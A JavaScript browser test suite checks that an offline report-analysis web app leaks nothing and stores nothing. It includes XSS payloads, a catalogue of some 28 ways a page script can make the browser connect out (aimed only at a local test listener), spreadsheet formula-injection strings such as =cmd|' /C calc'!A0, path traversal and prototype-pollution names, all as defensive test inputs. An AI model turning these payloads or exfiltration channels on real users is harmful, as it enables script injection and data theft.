// Nothing leaves the page and nothing of a text stays behind.

import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { launch, open, paste, show, state } from './support/app.mjs';
import { report } from './support/report.mjs';

let browser;
before(async () => (browser = await launch()));
after(() => browser.close());

const views = ['overview', 'keywords', 'numbers', 'charts', 'notes'];

/** Goes through every view, chooses something in each, switches language and theme. */
async function useAll(page) {
  for (const view of views) {
    await show(page, view);
    const choice = page.locator(`#${view} tbody tr button, #${view} svg .mark`).first();
    if ((await choice.count()) > 0) await choice.click();
  }
  await page.locator('#outline [role=treeitem]').first().click();
  await page.click('#language');
  await page.click('.theme');
  await page.waitForTimeout(200);
}

/** A server on this computer that notes every connection and everything said on one. */
async function listener() {
  const heard = { connections: 0, said: [] };
  const server = createServer((socket) => {
    heard.connections++;
    socket.on('data', (data) => heard.said.push(String(data))).on('error', () => {});
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  return { port: server.address().port, heard, close: () => server.close() };
}

/** In the page: every way that a script has to make a browser connect, one after the other. */
async function connectAnyhow(port) {
  const to = `http://127.0.0.1:${port}/leak`;
  const append = (name, attributes) => {
    const element = Object.assign(document.createElement(name), {});
    for (const [key, value] of Object.entries(attributes)) {
      try { element.setAttribute(key, value); } catch { /* Trusted Types */ }
    }
    document.body.append(element);
    return element;
  };
  const ways = [
    () => fetch(to, { mode: 'no-cors' }),
    () => { const request = new XMLHttpRequest(); request.open('GET', to); request.send(); },
    () => new WebSocket(to.replace('http', 'ws')),
    () => new EventSource(to),
    () => navigator.sendBeacon(to, 'leak'),
    () => import(to),
    () => new Worker(to),
    () => append('img', { src: to }),
    () => append('img', { srcset: `${to} 2x` }),
    () => append('script', { src: to }),
    () => append('link', { rel: 'stylesheet', href: to }),
    () => append('link', { rel: 'prefetch', href: to }),
    () => append('link', { rel: 'preload', as: 'font', href: to }),
    () => append('link', { rel: 'icon', href: to }),
    () => append('link', { rel: 'manifest', href: to }),
    () => append('iframe', { src: to }),
    () => append('object', { data: to }),
    () => append('embed', { src: to }),
    () => append('video', { src: to, autoplay: '' }),
    () => append('audio', { src: to, autoplay: '' }),
    () => append('base', { href: to }),
    () => append('input', { type: 'image', src: to }),
    () => append('div', { style: `background: url(${to})` }),
    () => { append('p', {}).style.backgroundImage = `url(${to})`; },
    () => { append('style', {}).textContent = `@import "${to}"; body { background: url(${to}) }`; },
    () => new FontFace('leak', `url(${to})`).load(),
    () => { const form = append('form', { action: to, method: 'post', target: '_self' }); form.submit(); },
    () => new Function('url', 'fetch(url)')(to),
  ];
  const outcomes = ways.map((way) => {
    try {
      return Promise.resolve(way()).then(() => {}, () => {});
    } catch {
      return undefined;
    }
  });
  await Promise.race([Promise.all(outcomes), new Promise((resolve) => setTimeout(resolve, 1500))]);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return ways.length;
}

test('a listener on this computer hears nothing, whatever a script in the page tries', { timeout: 60_000 }, async (t) => {
  const { port, heard, close: hangUp } = await listener();
  t.after(hangUp);
  const { page, requests, close } = await open(browser, { offline: false });
  await paste(page, report);
  await useAll(page);
  assert.deepEqual(requests.filter((url) => !url.startsWith('blob:')).slice(1), [], 'no request in a whole use');
  assert.equal(heard.connections, 0);
  const refusals = page.evaluate(() => new Promise((resolve) => {
    const seen = new Set();
    document.addEventListener('securitypolicyviolation', (event) => seen.add(event.effectiveDirective));
    setTimeout(() => resolve([...seen]), 4500);
  }));
  const ways = await page.evaluate(connectAnyhow, port);
  t.diagnostic(`${ways} ways tried, refused by ${(await refusals).sort().join(' ')}`);
  // Chromium opens a bare connection for a frame or a form before it asks the policy, and says nothing on it.
  assert.deepEqual(heard.said, []);
  await close();
});

test('text that nobody vouches for is not run', async () => {
  const { page, close } = await open(browser);
  const refused = (run) => page.evaluate(`(() => { try { ${run}; return 'ran'; } catch (error) { return error.name; } })()`);
  assert.equal(await refused(`document.body.innerHTML = '<b>x</b>'`), 'TypeError');
  assert.equal(await refused(`new DOMParser().parseFromString('<p>', 'text/html')`), 'TypeError');
  assert.equal(await refused(`new Worker('data:text/javascript,1')`), 'TypeError');
  assert.equal(await refused(`trustedTypes.createPolicy('other', {})`), 'TypeError');
  for (const name of ['reportlens-worker', 'reportlens-drawing']) {
    assert.equal(await refused(`trustedTypes.createPolicy('${name}', {})`), 'TypeError', 'each policy is made once');
  }
  // In a timer, since what a test evaluates itself is exempt.
  const evaluated = await page.evaluate(() => new Promise((resolve) => setTimeout(() => {
    try { resolve(eval('1')); } catch (error) { resolve(error.name); }
  })));
  assert.match(String(evaluated), /Error/);
  await close();
});

const payloads = [
  '<img src=x onerror="document.title=1">',
  '<svg onload="document.title=1"><script>document.title=1</script></svg>',
  '"><script>document.title=1</script>',
  '<a href="javascript:document.title=1" id=report>x</a>',
  "${document.title=1}{{document.title=1}}",
];

test('payloads in headings, labels, terms and tips stay text', { timeout: 120_000 }, async () => {
  const { page, errors, close } = await open(browser);
  for (const payload of payloads) {
    const text = `一、${payload}工作\n“${payload}”学校12所，“${payload}”教师30名，${payload}资金3亿元、${payload}资金5亿元。\n` +
      `二、“${payload}”工作\n${payload}：8%\n“${payload}”比上年增长5.5%，“${payload}”比上年下降3%。\n`;
    await paste(page, text);
    await useAll(page);
    for (const mark of await page.locator('#charts svg .mark').all()) if (await mark.isVisible()) await mark.hover();
    const alien = await page.evaluate(() => {
      const isAlien = (element) =>
        /^(img|iframe|object|embed|a|form|base|audio|video)$/.test(element.localName) ||
        (element.localName === 'script' && ![document.head, document.body].includes(element.parentElement)) ||
        [...element.attributes].some(({ name }) => name.startsWith('on'));
      return [...document.querySelectorAll('*')].filter(isAlien).map((element) => element.outerHTML.slice(0, 200));
    });
    assert.deepEqual(alien, [], payload);
    assert.notEqual(await page.title(), '1', payload);
    assert.equal(await page.locator('#report').count(), 1);
  }
  assert.deepEqual(errors, []);
  await close();
});

test('the name of a file stays text, and what is saved has names of our own', async () => {
  const { page, errors, close } = await open(browser);
  for (const payload of [...payloads, '=HYPERLINK("http://x")', '../../up', '__proto__']) {
    await page.setInputFiles('input[type=file]', { name: `${payload}.txt`, mimeType: 'text/html', buffer: Buffer.from(report) });
    await state(page, 'done');
    await page.waitForFunction((report) => document.querySelector('#report').value === report, report);
    assert.equal(await page.locator('#app script, #app img, #app a[href]').count(), 0, payload);
    assert.notEqual(await page.title(), '1', payload);
    await page.$eval('#report', (area) => { area.value = ''; area.dispatchEvent(new InputEvent('input', { bubbles: true })); });
    await state(page, 'ready');
  }
  await paste(page, `一、=cmd|' /C calc'!A0 ../../x\n${report}`);
  await show(page, 'charts');
  const [saved] = await Promise.all([page.waitForEvent('download'), page.locator('#charts button', { hasText: 'CSV' }).first().click()]);
  assert.match(saved.suggestedFilename(), /^[\p{L}\p{N}（）() _-]+\.csv$/u);
  assert.deepEqual(errors, []);
  await close();
});

test('no name in the document is taken from a text', async () => {
  const { page, close } = await open(browser);
  const names = ['engine', 'worker', 'about', 'app', '__proto__', 'constructor', 'hasOwnProperty', 'toString'];
  const line = (name) => `${name}学校12所，${name}教师30名，“${name}”资金3亿元。`;
  await paste(page, names.map((name, index) => `${index + 1}. ${name}\n${line(name).repeat(3)}\n`).join(''));
  await useAll(page);
  const ids = await page.$$eval('[id], [name]', (elements) => elements.map((element) => element.id || element.getAttribute('name')));
  assert.deepEqual(ids.filter((id) => !/^[a-z]+(-[a-z]+)*(-\d+)?$/.test(id)), []);
  assert.equal(new Set(ids).size, ids.length, `an id stands twice: ${ids.sort().join(' ')}`);
  for (const name of ['worker', 'about', 'app']) assert.equal(ids.filter((id) => id === name).length, 1);
  assert.equal(await page.evaluate(() => ({}).polluted ?? Object.keys(Object.prototype).length), 0);
  await paste(page, report);
  await close();
});

test('words and lists named after the prototype are words', async () => {
  const stored = { 'reportlens.words.same': '__proto__ = constructor\ntoString = valueOf', 'reportlens.words.stop': '__proto__', 'reportlens.words.keep': 'hasOwnProperty' };
  const { page, errors, close } = await open(browser, {
    init: `for (const [key, value] of Object.entries(${JSON.stringify(stored)})) localStorage.setItem(key, value);`,
  });
  await paste(page, `${report}\n${'三、constructor 与 __proto__ 与 hasOwnProperty 工作，valueOf 5所学校。\n'.repeat(5)}`);
  await useAll(page);
  assert.equal(await page.evaluate(() => Object.keys(Object.prototype).length), 0);
  assert.deepEqual(errors, []);
  await close();
});

/** Everything that a page can leave on the computer. */
const traces = (page) =>
  page.evaluate(async () => JSON.stringify([
    { ...localStorage }, { ...sessionStorage }, document.cookie, history.state, location.href, window.name,
    await indexedDB.databases().catch(() => []),
    'caches' in window ? await caches.keys().catch(() => []) : [],
  ]));

test('nothing of a text is stored: after use, after a reload, after a crash', { timeout: 60_000 }, async () => {
  const { page, close } = await open(browser);
  const secret = '清河';
  const words = (text) => ['清河', '立德树人', '项目资金', '教师', '幼儿园'].filter((word) => text.includes(word));
  await paste(page, report);
  await useAll(page);
  assert.deepEqual(words(await traces(page)), [], 'after use');

  await page.reload();
  await state(page, 'ready');
  assert.ok(!(await page.inputValue('#report')).includes(secret), 'the text area is empty after a reload');
  assert.deepEqual(words(await traces(page)), [], 'after a reload');

  await paste(page, report);
  await useAll(page);
  const url = page.url();
  const context = page.context();
  const crashed = new Promise((resolve) => page.once('crash', resolve));
  page.goto('chrome://crash').catch(() => {});
  await crashed;
  const next = await context.newPage();
  await next.goto(url);
  await state(next, 'ready');
  assert.equal(await next.inputValue('#report'), '');
  assert.deepEqual(words(await traces(next)), [], 'after a crash');
  await close();
});

test('what is copied holds no formula', async () => {
  const { page, close } = await open(browser, {
    init: () => {
      Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (text) => { window.copiedText = text; } } });
    },
  });
  const formulas = ['=HYPERLINK("http://a")', '+cmd|calc', '@SUM(A1)', '-2+3+cmd', '＝1+1'];
  await paste(page, formulas.map((formula, index) => `${index + 1}. ${formula}\n${formula}：资金3亿元，比上年下降0.10%。\n`).join(''));
  await show(page, 'numbers');
  await page.click('#numbers-copy');
  const copied = await page.evaluate(() => window.copiedText);
  assert.match(copied, /\t/);
  for (const cell of copied.split(/[\t\n]/)) assert.ok(!/^\s*[=+@＝＋＠]|^-(?![\d.]+%?$)/.test(cell), cell);
  await close();
});
